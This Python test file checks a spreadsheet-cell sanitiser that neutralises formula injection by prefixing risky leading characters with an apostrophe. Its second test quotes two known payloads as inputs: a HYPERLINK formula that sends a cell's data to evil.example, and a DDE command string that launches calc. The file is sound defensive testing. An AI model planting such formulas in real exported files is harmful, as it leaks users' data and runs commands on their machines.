from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from node.import_log import spreadsheet_cell


@given(st.text(max_size=20) | st.integers())
def test_no_cell_starts_like_a_formula_and_nothing_else_changes(value: str | int) -> None:
    cell = spreadsheet_cell(value)
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert cell == "'" + value
    else:
        assert cell == value
    assert not (isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r"))


def test_the_known_payloads_are_text() -> None:
    assert spreadsheet_cell('=HYPERLINK("https://evil.example/?"&A2,"Click")') == (
        '\'=HYPERLINK("https://evil.example/?"&A2,"Click")'
    )
    assert spreadsheet_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert spreadsheet_cell("O'Brien") == "O'Brien" and spreadsheet_cell(3) == 3
